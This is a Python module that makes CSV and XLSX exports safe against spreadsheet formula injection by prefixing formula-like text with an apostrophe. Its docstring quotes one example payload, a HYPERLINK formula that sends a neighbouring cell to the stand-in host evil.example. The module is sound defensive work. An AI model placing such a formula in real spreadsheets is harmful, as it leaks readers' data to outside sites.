"""The one place every XLSX and CSV export writes its cells through: text a spreadsheet would run stays text.

A value read from reports, rakor decisions, addresses or any other text a person typed may begin with a
character that makes Excel, LibreOffice or Google Sheets treat the cell as a formula: ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (OWASP "CSV injection"). A public report titled
``=HYPERLINK("http://evil.example/leak?d="&A3,"Lihat")`` would otherwise become a live link sending the
neighbouring cell to another site when the reader clicks it.

The rule, for every export (CSV and XLSX, openpyxl or the fast writer in praja/deployment/xlsx_writer.py):
such text is written with an apostrophe in front (``'=HYPERLINK(...)``), which every spreadsheet shows as
the text itself and never evaluates; numbers, dates and booleans are written as they are. XLSX writers also
never emit a formula element: the fast writer writes inline strings only, and `openpyxl_rows` plus
`no_formulas` make sure an openpyxl workbook holds none.

No Django here: the exports and the command line both use it. Tests: tests/test_exports_safe.py (including one that
fails when a module writes CSV or XLSX without this module) and the lapsit's and the plan's tests of hostile text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

# The first characters that make a spreadsheet read a cell as a formula (or a DDE call).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def text(value: str) -> str:
    """The text as a spreadsheet shows it without evaluating it: an apostrophe before a formula's first character."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def cell(value: Any) -> Any:
    """One cell's value: text neutralised, anything else (numbers, dates, None) as it is."""
    return text(value) if isinstance(value, str) else value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class CsvWriter:
    """csv.writer with every text cell neutralised (``writer.writerow``/``writerows`` as usual)."""

    def __init__(self, stream: IO[str] | Any, **fmt: Any) -> None:
        self._w = csv.writer(stream, **fmt)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._w.writerow(row("" if v is None else v for v in values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


def csv_writer(stream: IO[str] | Any, **fmt: Any) -> CsvWriter:
    return CsvWriter(stream, **fmt)


def openpyxl_rows(ws: Any, rows: Iterable[Sequence[Any]]) -> None:
    """Append rows to an openpyxl worksheet (normal or write-only), each text cell neutralised."""
    for r in rows:
        ws.append(row(r))


def no_formulas(workbook: Any) -> None:
    """Belt and braces for an openpyxl workbook (not write-only): any cell openpyxl took for a formula becomes
    its neutralised text."""
    for ws in workbook.worksheets:
        for line in ws.iter_rows():
            for c in line:
                if c.data_type == "f":
                    c.value = text(str(c.value))
                    c.data_type = "s"
